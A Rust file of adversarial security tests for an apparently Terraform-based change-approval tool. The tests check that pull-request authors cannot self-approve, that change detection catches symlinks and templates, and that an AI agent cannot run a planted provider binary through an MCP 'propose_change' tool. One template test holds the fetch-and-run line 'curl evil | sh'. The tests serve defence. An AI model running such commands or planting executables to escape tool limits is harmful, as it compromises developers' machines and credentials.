//! Adversarial review of the pull-request workflow (tier 2): attacks by a pull-request author and
//! by the shape of a push, each a test that fails while the attack works. Real git, real
//! terraform, a real airlock server, the forge stand-in.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{json, Value};

use crate::forge::ForgeStandIn;
use crate::git_repo::{ci_env, git, json_of, resources, vars, write, Origin, FORGE_TOKEN};
use crate::support::{team, text, Team, AIRLOCK};

/// GitHub's environment of a `pull_request` job for PR `n`, opened by `login`.
fn github_pr(
    f: &ForgeStandIn,
    events: &Path,
    n: u64,
    head: &str,
    base: &str,
    login: &str,
) -> Vec<(String, String)> {
    let event = events.join(format!("pr{n}.json"));
    let payload = json!({"pull_request": {"number": n, "user": {"login": login},
        "head": {"sha": head}, "base": {"sha": base}}, "sender": {"login": login}});
    std::fs::write(&event, payload.to_string()).unwrap();
    vars(&[
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_REPOSITORY", "acme/infra"),
        ("GITHUB_EVENT_NAME", "pull_request"),
        ("GITHUB_EVENT_PATH", event.to_str().unwrap()),
        ("GITHUB_SHA", "3333333333333333333333333333333333333333"),
        ("GITHUB_REF", &format!("refs/pull/{n}/merge")),
        ("GITHUB_ACTOR", login),
        ("GITHUB_API_URL", &f.url_github()),
        ("GITHUB_SERVER_URL", "https://github.example"),
        ("GITHUB_TOKEN", FORGE_TOKEN),
        ("GITHUB_STEP_SUMMARY", ""),
    ])
}

/// GitHub's environment of a `push` job to `main`: `before` is the previous tip.
fn github_push(
    f: &ForgeStandIn,
    events: &Path,
    merge: &str,
    before: &str,
) -> Vec<(String, String)> {
    let event = events.join(format!("push-{merge}.json"));
    let payload =
        json!({"before": before, "after": merge, "repository": {"default_branch": "main"}});
    std::fs::write(&event, payload.to_string()).unwrap();
    vars(&[
        ("GITHUB_ACTIONS", "true"),
        ("GITHUB_REPOSITORY", "acme/infra"),
        ("GITHUB_EVENT_NAME", "push"),
        ("GITHUB_EVENT_PATH", event.to_str().unwrap()),
        ("GITHUB_SHA", merge),
        ("GITHUB_REF", "refs/heads/main"),
        ("GITHUB_API_URL", &f.url_github()),
        ("GITHUB_SERVER_URL", "https://github.example"),
        ("GITHUB_TOKEN", FORGE_TOKEN),
        ("GITHUB_STEP_SUMMARY", ""),
    ])
}

/// A pull request author's user, `login`, with the forge login `github:LOGIN`: runs of a
/// pull request whose author belongs to no user cannot be approved by anyone.
fn pr_author(t: &Team, login: &str) {
    let forge_login = format!("github:{login}");
    t.s.ok(
        &t.s.admin,
        &["user", "create", login, "--forge-login", &forge_login],
    );
}

fn run_status(t: &Team, id: &str) -> String {
    let v: Value =
        serde_json::from_str(&t.s.ok(&t.s.admin, &["run", "show", id, "--format", "json"]))
            .unwrap();
    v["run"]["status"].as_str().unwrap_or_default().to_owned()
}

/// ATTACK (PR author): `airlock ci plan` uploads every run with the shared CI plan token, so the
/// run's author is that token's user, never the person who wrote the change. An approver who
/// opens a pull request can approve the run of their own change, and `ci apply` applies it after
/// merge: the two-person rule ("a human other than the author approves it") does not hold for the
/// pull-request workflow. Expected: the pull request's author (the forge login in the event,
/// mapped to an airlock user) is recorded on the run and cannot approve it; while the login
/// belongs to no user, nobody can (airlock cannot tell whether the approver wrote it).
#[test]
fn attacks_tier2_a_pull_request_author_cannot_approve_the_run_of_their_own_change() {
    crate::support::terraform_bin();
    let f = ForgeStandIn::start(FORGE_TOKEN);
    let events = tempfile::tempdir().unwrap();
    let t = team("app");
    t.s.ok(&t.s.admin, &["stack", "create", "net"]);
    let origin = Origin::new();
    let dev = &origin.work;
    let base = git(dev, &["rev-parse", "HEAD"]);

    // alice (an approver) opens a pull request changing stack app.
    let head = origin.push_change(
        "alice-change",
        "stacks/app/main.tf",
        &resources(&["base", "alices"]),
        "app: alice's change",
    );
    let pr = origin.checkout("ci-pr", &head);
    let env = github_pr(&f, events.path(), 7, &head, &base, "Alice");
    let out = ci_env(&t, &t.agent, &pr, &["ci", "plan", "--format", "json"], &env);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let run = json_of(&out)["stacks"][0]["run"]
        .as_str()
        .unwrap()
        .to_owned();
    let shown = t.s.ok(&t.s.admin, &["run", "show", &run]);
    assert!(
        shown.contains("written or pushed by: github:alice"),
        "{shown}"
    );

    // While github:alice belongs to no user, nobody can approve: not alice, not bob.
    for token in [&t.approver, &t.approver2] {
        let approve = t.s.cli(token, &["approve", &run]);
        assert_eq!(approve.status.code(), Some(2), "{}", text(&approve));
        assert!(
            text(&approve).contains("github:alice") && text(&approve).contains("no airlock user"),
            "{}",
            text(&approve)
        );
    }
    assert_eq!(run_status(&t, &run), "needs_approval");

    // Only an admin gives a user a forge login.
    let denied = t.s.cli(
        &t.approver,
        &["user", "add-forge-login", "alice", "github:alice"],
    );
    assert!(!denied.status.success(), "{}", text(&denied));
    t.s.ok(
        &t.s.admin,
        &["user", "add-forge-login", "alice", "github:alice"],
    );

    // alice approves the run of her own pull request: refused.
    let approve = t.s.cli(&t.approver, &["approve", &run]);
    let status = run_status(&t, &run);
    assert!(
        approve.status.code() == Some(2) && status == "needs_approval",
        "the author of pull request #7 (alice) approved its run {run} herself; it is now {status}: {}",
        text(&approve)
    );
    assert!(
        text(&approve).contains("github:alice, a forge login of user alice"),
        "{}",
        text(&approve)
    );
    // Someone else can.
    t.s.ok(&t.approver2, &["approve", &run]);
    assert_eq!(run_status(&t, &run), "approved");
}

/// The same rule on GitLab, where the merge request pipeline names who started it
/// (`GITLAB_USER_LOGIN`): that user cannot approve the run, another approver can.
#[test]
fn attacks_tier2_a_merge_request_pusher_cannot_approve_the_run_on_gitlab() {
    crate::support::terraform_bin();
    let f = ForgeStandIn::start(FORGE_TOKEN);
    let t = team("app");
    t.s.ok(&t.s.admin, &["stack", "create", "net"]);
    t.s.ok(
        &t.s.admin,
        &["user", "add-forge-login", "alice", "gitlab:alice"],
    );
    let origin = Origin::new();
    let dev = &origin.work;
    let base = git(dev, &["rev-parse", "HEAD"]);
    let head = origin.push_change(
        "alice-change",
        "stacks/net/main.tf",
        &resources(&["base", "alices"]),
        "net: alice's change",
    );
    let mr = origin.checkout("ci-mr", &head);
    let env = vars(&[
        ("GITLAB_CI", "true"),
        ("CI_PROJECT_ID", "42"),
        ("CI_PROJECT_URL", "https://gitlab.example/acme/infra"),
        ("CI_MERGE_REQUEST_IID", "5"),
        ("CI_COMMIT_SHA", &head),
        ("CI_MERGE_REQUEST_DIFF_BASE_SHA", &base),
        ("CI_API_V4_URL", &f.url_gitlab()),
        ("AIRLOCK_GITLAB_TOKEN", FORGE_TOKEN),
        ("GITLAB_USER_LOGIN", "alice"),
    ]);
    let out = ci_env(&t, &t.agent, &mr, &["ci", "plan", "--format", "json"], &env);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let run = json_of(&out)["stacks"][0]["run"]
        .as_str()
        .unwrap()
        .to_owned();
    let approve = t.s.cli(&t.approver, &["approve", &run]);
    assert_eq!(approve.status.code(), Some(2), "{}", text(&approve));
    assert!(
        text(&approve).contains("gitlab:alice, a forge login of user alice"),
        "{}",
        text(&approve)
    );
    assert_eq!(run_status(&t, &run), "needs_approval");
    t.s.ok(&t.approver2, &["approve", &run]);
    assert_eq!(run_status(&t, &run), "approved");
}

/// ATTACK (shape of a push): `airlock ci apply` compares `HEAD^1..HEAD` (its `--base` default)
/// and ignores the push event's `before`. A pull request merged as several commits (rebase and
/// merge, or a fast-forward) applies only the stacks of its last commit: the other reviewed and
/// approved runs are silently left unapplied while the job reports success. Expected: every
/// stack changed between the push's `before` and `after` is applied.
#[test]
fn attacks_tier2_ci_apply_after_a_multi_commit_push_applies_every_changed_stack() {
    crate::support::terraform_bin();
    let f = ForgeStandIn::start(FORGE_TOKEN);
    let events = tempfile::tempdir().unwrap();
    let t = team("app");
    t.s.ok(&t.s.admin, &["stack", "create", "net"]);
    pr_author(&t, "carol");
    let origin = Origin::new();
    let dev = &origin.work;
    let base = git(dev, &["rev-parse", "HEAD"]);

    git(dev, &["checkout", "-q", "-b", "two-commits"]);
    write(dev, "stacks/net/main.tf", &resources(&["base", "subnet"]));
    git(dev, &["commit", "-q", "-am", "net: a subnet"]);
    write(dev, "stacks/app/main.tf", &resources(&["base", "service"]));
    git(dev, &["commit", "-q", "-am", "app: a service"]);
    git(dev, &["push", "-q", "origin", "two-commits"]);
    let head = git(dev, &["rev-parse", "HEAD"]);
    let pr = origin.checkout("ci-pr", &head);
    let env = github_pr(&f, events.path(), 9, &head, &base, "carol");
    let out = ci_env(&t, &t.agent, &pr, &["ci", "plan", "--format", "json"], &env);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let runs: Vec<String> = json_of(&out)["stacks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["run"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(runs.len(), 2, "both stacks planned: {}", text(&out));
    for r in &runs {
        t.s.ok(&t.approver2, &["approve", r]);
    }

    // Rebase and merge: main fast-forwards to the two commits.
    git(dev, &["checkout", "-q", "main"]);
    git(dev, &["merge", "-q", "--ff-only", "two-commits"]);
    git(dev, &["push", "-q", "origin", "main"]);
    let merged = origin.checkout("ci-main", &head);
    let env = github_push(&f, events.path(), &head, &base);
    let out = ci_env(
        &t,
        &t.ci,
        &merged,
        &["ci", "apply", "--format", "json"],
        &env,
    );
    let v = json_of(&out);
    let applied: Vec<String> = runs.iter().map(|r| run_status(&t, r)).collect();
    assert!(
        applied.iter().all(|s| s == "applied"),
        "a push of two reviewed commits applied only {v:#} (run statuses {applied:?}; exit {:?})",
        out.status.code()
    );
}

/// ATTACK (PR author, change detection): a symlinked `.tf` file is configuration Terraform loads,
/// but change detection lists regular files only, so a pull request that adds one to a stack
/// (or edits the file it points to) affects no stack: nothing is planned, no status is set for the
/// stack, the change merges unreviewed, and every later plan of the stack is refused at upload
/// (the embedded file is not among the inputs). Expected: the stack is affected.
#[test]
fn attacks_tier2_a_symlinked_tf_file_makes_its_stack_affected() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = tmp.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    write(
        &repo,
        "airlock.hcl",
        "stack \"app\" {\n  dir = \"stacks/app\"\n}\n",
    );
    write(&repo, "stacks/app/main.tf", &resources(&["base"]));
    write(&repo, "shared/extra.tf", &resources(&["shared"]));
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-q", "-m", "base"]);

    git(&repo, &["checkout", "-q", "-b", "sneak"]);
    std::os::unix::fs::symlink("../../shared/extra.tf", repo.join("stacks/app/extra.tf")).unwrap();
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-q", "-m", "app: symlink a shared file"]);

    let affected = |repo: &Path| -> Value {
        let out = Command::new(AIRLOCK)
            .args(["ci", "affected", "--base", "main", "--format", "json"])
            .current_dir(repo)
            .env_remove("GITHUB_BASE_REF")
            .env_remove("CI_MERGE_REQUEST_DIFF_BASE_SHA")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", text(&out));
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let names = |v: &Value| -> Vec<String> {
        v["stacks"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|s| s["name"].as_str().map(str::to_owned))
            .collect()
    };
    let v = affected(&repo);
    assert_eq!(
        names(&v),
        ["app"],
        "adding a symlinked .tf file to stacks/app: {v:#}"
    );

    // Once the symlink is on main, editing its target must affect the stack too.
    git(&repo, &["checkout", "-q", "main"]);
    git(&repo, &["merge", "-q", "--ff-only", "sneak"]);
    git(&repo, &["checkout", "-q", "-b", "edit-target"]);
    write(&repo, "shared/extra.tf", &resources(&["shared", "more"]));
    git(&repo, &["commit", "-q", "-am", "edit the shared file"]);
    let v = affected(&repo);
    assert_eq!(
        names(&v),
        ["app"],
        "editing the target of stacks/app/extra.tf: {v:#}"
    );
}

/// ATTACK (PR author, fingerprint): files a configuration reads with `file()` or `templatefile()`
/// (user data, policies, scripts, under the stack's own directory) decide what a plan does but are
/// neither inputs of the fingerprint nor watched by change detection. After a run was approved,
/// the author pushes a commit that changes only such a file: `ci plan` finds "a run for exactly
/// these inputs", reuses the approved run and turns the status green for a head whose content was
/// never planned; after merge `ci apply` applies the old plan and main holds unreviewed content
/// that the next plan of the stack carries along. Expected: the new content is planned again
/// (a new run), so what is approved is a plan of the head being merged.
#[test]
fn attacks_tier2_a_file_read_by_the_configuration_is_part_of_the_reviewed_inputs() {
    crate::support::terraform_bin();
    let f = ForgeStandIn::start(FORGE_TOKEN);
    let events = tempfile::tempdir().unwrap();
    let t = team("app");
    t.s.ok(&t.s.admin, &["stack", "create", "net"]);
    pr_author(&t, "carol");
    let origin = Origin::new();
    let dev = &origin.work;
    let base = git(dev, &["rev-parse", "HEAD"]);

    git(dev, &["checkout", "-q", "-b", "payload"]);
    write(
        dev,
        "stacks/app/main.tf",
        &format!(
            "{}resource \"terraform_data\" \"payload\" {{\n  input = file(\"${{path.module}}/payload.txt\")\n}}\n",
            resources(&["base"])
        ),
    );
    write(dev, "stacks/app/payload.txt", "reviewed content\n");
    git(dev, &["add", "-A"]);
    git(dev, &["commit", "-q", "-m", "app: a payload"]);
    git(dev, &["push", "-q", "origin", "payload"]);
    let head1 = git(dev, &["rev-parse", "HEAD"]);
    let pr = origin.checkout("ci-pr-1", &head1);
    let env = github_pr(&f, events.path(), 11, &head1, &base, "carol");
    let out = ci_env(&t, &t.agent, &pr, &["ci", "plan", "--format", "json"], &env);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let reviewed = json_of(&out)["stacks"][0]["run"]
        .as_str()
        .unwrap()
        .to_owned();
    t.s.ok(&t.approver2, &["approve", &reviewed]);

    // After approval, only the file the configuration reads changes.
    write(dev, "stacks/app/payload.txt", "content nobody reviewed\n");
    git(dev, &["commit", "-q", "-am", "app: change the payload"]);
    git(dev, &["push", "-q", "origin", "payload"]);
    let head2 = git(dev, &["rev-parse", "HEAD"]);
    let pr2 = origin.checkout("ci-pr-2", &head2);
    let env = github_pr(&f, events.path(), 11, &head2, &base, "carol");
    let out = ci_env(
        &t,
        &t.agent,
        &pr2,
        &["ci", "plan", "--format", "json"],
        &env,
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let v = json_of(&out);
    // A new run of head2, uploaded (the server accepts its inputs beside the embedded .tf files)
    // and waiting for its own approval.
    assert!(v["stacks"][0]["run"].is_string(), "{v:#}");
    assert_eq!(v["stacks"][0]["status"], "needs_approval", "{v:#}");
    assert_ne!(
        v["stacks"][0]["run"].as_str(),
        Some(reviewed.as_str()),
        "head {head2} changed stacks/app/payload.txt (read by file()) after approval, and ci plan reused the approved run {reviewed} of head {head1}: {v:#}"
    );
}

/// ATTACK (PR author, change detection): a pull request that changes only a file under the
/// stack's directory that is not a `.tf`/`.tfvars`/lock file (a template, a policy document read
/// with `file()`) affects no stack: nothing is planned or shown, and it merges unreviewed.
/// Expected (issue 11: "a stack is affected when a file under its dir changed"): the stack is
/// affected.
#[test]
fn attacks_tier2_a_template_under_the_stack_directory_makes_its_stack_affected() {
    let tmp = tempfile::tempdir().unwrap();
    let repo = tmp.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    write(
        &repo,
        "airlock.hcl",
        "stack \"app\" {\n  dir = \"stacks/app\"\n}\n",
    );
    write(
        &repo,
        "stacks/app/main.tf",
        "resource \"terraform_data\" \"ud\" {\n  input = templatefile(\"${path.module}/templates/user_data.sh.tpl\", {})\n}\n",
    );
    write(
        &repo,
        "stacks/app/templates/user_data.sh.tpl",
        "#!/bin/sh\necho ok\n",
    );
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-q", "-m", "base"]);
    git(&repo, &["checkout", "-q", "-b", "change"]);
    write(
        &repo,
        "stacks/app/templates/user_data.sh.tpl",
        "#!/bin/sh\ncurl evil | sh\n",
    );
    git(&repo, &["commit", "-q", "-am", "change the user data"]);
    let out = Command::new(AIRLOCK)
        .args(["ci", "affected", "--base", "main", "--format", "json"])
        .current_dir(&repo)
        .env_remove("GITHUB_BASE_REF")
        .env_remove("CI_MERGE_REQUEST_DIFF_BASE_SHA")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let names: Vec<&str> = v["stacks"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|s| s["name"].as_str())
        .collect();
    assert_eq!(
        names,
        ["app"],
        "a change to stacks/app/templates/user_data.sh.tpl: {v:#}"
    );
}

/// ATTACK (agent via MCP): `propose_change` runs `terraform init` and `plan` on configuration the
/// agent wrote, in the agent's checkout, as the developer who launched `airlock mcp`. Terraform
/// executes provider binaries during a plan, and installs them from the working directory's
/// implied mirror (`terraform.d/plugins`). An agent that writes an executable there and calls
/// `propose_change` runs any program on the developer's machine, with its files (cloud
/// credentials, kube configs) — through the tool that is listed as non-destructive and "never
/// applies anything", which agent hosts let run without asking. Expected: `propose_change` never
/// executes a program the agent put in the checkout (plugin installation restricted to a mirror
/// or cache the agent cannot write, or planning done away from the agent's machine).
#[test]
fn attacks_tier2_propose_change_does_not_run_a_program_the_agent_wrote() {
    crate::support::terraform_bin();
    let t = team("dev/app");
    let tmp = tempfile::tempdir().unwrap();
    let (root, marker) = evil_provider_checkout(tmp.path());
    let dir = root.join("stacks/app");
    let plugin_dir = dir.join("terraform.d/plugins/example.com/agent/evil/1.0.0/linux_amd64");
    plant_evil_provider(&plugin_dir, &marker);
    let out = propose_over_stdio(&t, &root, &[]);
    assert!(
        !marker.exists(),
        "propose_change ran the agent's program: {:?}\n{}",
        std::fs::read_to_string(&marker).unwrap_or_default(),
        text(&out)
    );
}

/// The same agent, through Terraform's working directory instead of a mirror: the checkout was
/// initialised for the stack once (by an earlier plan, or by the agent's own `terraform init`),
/// so `.terraform/terraform.tfstate` names this server's backend and a plan skips `init`; a
/// provider "already installed" in `.terraform/providers`, vouched for by a
/// `.terraform.lock.hcl` the agent wrote with the program's own hash, is then run by
/// `terraform plan`. The plan phase uses a data directory of its own.
#[test]
fn attacks_tier2_propose_change_does_not_run_a_provider_planted_in_dot_terraform() {
    let tf = crate::support::terraform_bin();
    let t = team("dev/app");
    let tmp = tempfile::tempdir().unwrap();
    let (root, marker) = evil_provider_checkout(tmp.path());
    let dir = root.join("stacks/app");
    // What an earlier init of this stack left (the backend block alone: no provider to fetch).
    let prep = tmp.path().join("prep");
    write(&prep, "main.tf", "terraform {\n  backend \"http\" {}\n}\n");
    let url = format!("{}/state/dev/app", t.s.url);
    let init = Command::new(&tf)
        .args(["init", "-input=false"])
        .args(
            ["address", "lock_address", "unlock_address"]
                .map(|k| format!("-backend-config={k}={url}")),
        )
        .current_dir(&prep)
        .env("CHECKPOINT_DISABLE", "1")
        .env("TF_CLI_CONFIG_FILE", "/dev/null")
        .env("TF_HTTP_USERNAME", "airlock")
        .env("TF_HTTP_PASSWORD", &t.agent)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(init.status.success(), "{}", text(&init));
    write(
        &dir,
        ".terraform/terraform.tfstate",
        &std::fs::read_to_string(prep.join(".terraform/terraform.tfstate")).unwrap(),
    );
    let plugin_dir = dir.join(".terraform/providers/example.com/agent/evil/1.0.0/linux_amd64");
    let hash = plant_evil_provider(&plugin_dir, &marker);
    write(
        &dir,
        ".terraform.lock.hcl",
        &format!("provider \"example.com/agent/evil\" {{\n  version     = \"1.0.0\"\n  constraints = \"1.0.0\"\n  hashes = [\n    \"{hash}\",\n  ]\n}}\n"),
    );
    // The operator's own explicit CLI configuration does not reopen the hole either.
    let rc = tmp.path().join("operator.tfrc");
    std::fs::write(&rc, "provider_installation {\n  direct {}\n}\n").unwrap();
    let out = propose_over_stdio(
        &t,
        &root,
        &[("AIRLOCK_TF_CLI_CONFIG", rc.to_str().unwrap())],
    );
    assert!(
        !marker.exists(),
        "propose_change ran the agent's program: {:?}\n{}",
        std::fs::read_to_string(&marker).unwrap_or_default(),
        text(&out)
    );
    // What the agent gets back says why nothing was planned.
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("propose_change failed"),
        "{}",
        text(&out)
    );
}

/// A checkout whose stack requires a provider `example.com/agent/evil`; the marker path its
/// program writes if it ever runs.
fn evil_provider_checkout(tmp: &Path) -> (PathBuf, PathBuf) {
    let root = tmp.join("checkout");
    write(
        &root,
        "airlock.hcl",
        "stack \"dev/app\" {\n  dir = \"stacks/app\"\n}\n",
    );
    write(
        &root.join("stacks/app"),
        "main.tf",
        "terraform {\n  backend \"http\" {}\n  required_providers {\n    evil = {\n      source  = \"example.com/agent/evil\"\n      version = \"1.0.0\"\n    }\n  }\n}\nprovider \"evil\" {}\n",
    );
    (root, tmp.join("executed-by-terraform"))
}

/// Writes the agent's "provider" (a script that leaves `marker`) into `plugin_dir`; its
/// Terraform package hash (`h1:`, the dirhash of the directory).
fn plant_evil_provider(plugin_dir: &Path, marker: &Path) -> String {
    use base64::Engine;
    use sha2::{Digest, Sha256};
    use std::os::unix::fs::PermissionsExt;
    std::fs::create_dir_all(plugin_dir).unwrap();
    let name = "terraform-provider-evil_v1.0.0";
    let program = format!(
        "#!/bin/sh\necho \"ran as $(id -un) in $(pwd)\" > '{}'\nexit 1\n",
        marker.display()
    );
    let plugin = plugin_dir.join(name);
    std::fs::write(&plugin, &program).unwrap();
    std::fs::set_permissions(&plugin, std::fs::Permissions::from_mode(0o755)).unwrap();
    let summary = format!(
        "{}  {name}\n",
        hex::encode(Sha256::digest(program.as_bytes()))
    );
    format!(
        "h1:{}",
        base64::engine::general_purpose::STANDARD.encode(Sha256::digest(summary.as_bytes()))
    )
}

/// `airlock mcp` over stdio as the team's agent in `root`: initialize, then one
/// `propose_change` of `stacks/app`; everything it printed.
fn propose_over_stdio(t: &Team, root: &Path, env: &[(&str, &str)]) -> Output {
    let mut child = Command::new(AIRLOCK)
        .args(["mcp", "--root"])
        .arg(root)
        .current_dir(root)
        .env("AIRLOCK_URL", &t.s.url)
        .env("AIRLOCK_TOKEN", &t.agent)
        .env("CHECKPOINT_DISABLE", "1")
        .env("TF_CLI_CONFIG_FILE", "/dev/null")
        .envs(env.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        let msgs = [
            json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "0"}}}),
            json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
            json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "propose_change", "arguments": {"dir": "stacks/app", "stack": "dev/app"}}}),
        ];
        for m in msgs {
            writeln!(stdin, "{m}").unwrap();
        }
    }
    child.wait_with_output().unwrap()
}
